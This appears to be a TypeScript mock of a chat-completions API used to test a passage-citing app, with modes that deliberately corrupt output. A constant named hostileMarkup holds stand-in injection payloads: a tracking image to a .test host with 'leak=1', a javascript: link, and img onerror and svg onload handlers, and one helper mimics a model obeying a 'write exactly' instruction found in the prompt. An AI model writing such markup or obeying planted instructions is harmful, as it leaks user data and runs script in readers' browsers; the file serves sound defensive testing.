/** Chat completions, whole or as a stream. The answer is computed from the prompt: sentences of its passages, each cited. */
import { json, type StandinAnswer } from '../service.js';
import { bestSentences, numberedPassages, questionOf, sentencesOf } from './prompt.js';
import { instanceOf } from './structured.js';

export interface ChatRequest {
  readonly model: string;
  readonly messages: readonly { readonly role: string; readonly content: string }[];
  readonly isStream: boolean;
  readonly wantsUsageInStream: boolean;
  readonly maxTokens: number;
  /** Of `response_format`; undefined for free text, null for any JSON object. */
  readonly schema: unknown;
}

export function answerChat(request: ChatRequest, mode: string): StandinAnswer {
  const written = spoil(write(request), mode);
  const words = written.split(' ');
  const isCut = words.length > request.maxTokens || mode === 'cut-at-limit';
  const text = isCut ? words.slice(0, Math.min(request.maxTokens, Math.ceil(words.length / 2))).join(' ') : written;
  const finish = isCut ? 'length' : 'stop';
  const prompt = request.messages.map((message) => message.content).join(' ');
  const usage = { prompt_tokens: tokens(prompt), completion_tokens: tokens(text), total_tokens: tokens(prompt) + tokens(text) };
  const head = { id: 'chatcmpl-standin', created: 1_795_000_000, model: request.model };
  if (request.isStream) return stream({ head, text, finish, usage, mode, wantsUsage: request.wantsUsageInStream });
  const choices =
    mode === 'empty-choices' ? [] : [{ index: 0, message: { role: 'assistant', content: text }, logprobs: null, finish_reason: finish }];
  return json({ ...head, object: 'chat.completion', choices, usage });
}

function write(request: ChatRequest): string {
  const prompt = request.messages
    .filter((message) => message.role !== 'system')
    .map((message) => message.content)
    .join('\n');
  const everything = request.messages.map((message) => message.content).join('\n');
  const passages = numberedPassages(prompt).length > 0 ? numberedPassages(prompt) : numberedPassages(everything);
  const question = questionOf(prompt);
  const best = bestSentences(passages, question, 3);
  if (request.schema !== undefined) {
    const sentences = best.length > 0 ? best.map(({ text, number }) => `${text} [${number}]`) : sentencesOf(prompt);
    return JSON.stringify(request.schema === null ? { answer: sentences[0] ?? '' } : instanceOf(request.schema, sentences));
  }
  if (best.length > 0) return best.map(({ text, number }) => `${text.replace(/[.!?]$/, '')} [${number}].`).join(' ');
  if (passages.length > 0) return refusalOf(everything);
  const sentences = sentencesOf(prompt.replaceAll('\n', ' ')).filter((sentence) => sentence.length > 60);
  if (sentences.length > 3) return sentences.slice(0, 3).join(' ');
  return `You asked: ${question.slice(0, 200)} I was given no passages, so I have nothing to cite.`;
}

/** What the prompt wants to hear when the passages hold no answer. */
function refusalOf(prompt: string): string {
  return /write exactly:?\s*"?([^"\n]+)/i.exec(prompt)?.[1]?.trim() ?? 'The passages do not say anything about this question.';
}

/** What a model may be talked into writing; whoever renders it as markup fetches the picture or sets `window.__x`. */
const hostileMarkup = [
  '![chart](https://collect.lectern.test/pixel?leak=1)',
  '[click here](javascript:window.__x=1)',
  '<img src="https://collect.lectern.test/pixel" onerror="window.__x=1">',
  '<svg onload="window.__x=1"></svg>',
].join(' ');

function spoil(text: string, mode: string): string {
  if (mode === 'cites-unknown') return `${text} A later study found the opposite [97].`;
  if (mode === 'writes-image') return `${text} ${hostileMarkup}`;
  return mode === 'broken-json' ? `Sure! Here is the JSON:\n{"answer": "${text.slice(0, 20)}` : text;
}

function stream(parts: {
  head: Readonly<Record<string, unknown>>;
  text: string;
  finish: string;
  usage: unknown;
  mode: string;
  wantsUsage: boolean;
}): StandinAnswer {
  const event = (choices: unknown[], more: Readonly<Record<string, unknown>> = {}): string =>
    `data: ${JSON.stringify({ ...parts.head, object: 'chat.completion.chunk', choices, ...more })}\n\n`;
  const delta = (content: Readonly<Record<string, unknown>>, finish: string | null): string =>
    event([{ index: 0, delta: content, finish_reason: finish }]);
  const headers = { 'content-type': 'text/event-stream; charset=utf-8', 'cache-control': 'no-cache' };
  const pieces = parts.text.match(/\S+\s*/g) ?? [];
  const said = [delta({ role: 'assistant', content: '' }, null), ...pieces.map((piece) => delta({ content: piece }, null))];
  if (parts.mode === 'empty-choices') return { status: 200, headers, body: [event([]), 'data: [DONE]\n\n'] };
  if (parts.mode === 'cut-stream') return { status: 200, headers, body: said.slice(0, Math.ceil(said.length / 2)), isCut: true };
  const usage = parts.wantsUsage ? [event([], { usage: parts.usage })] : [];
  return { status: 200, headers, body: [...said, delta({}, parts.finish), ...usage, 'data: [DONE]\n\n'] };
}

/** About four characters each. */
function tokens(text: string): number {
  return Math.ceil(text.length / 4);
}
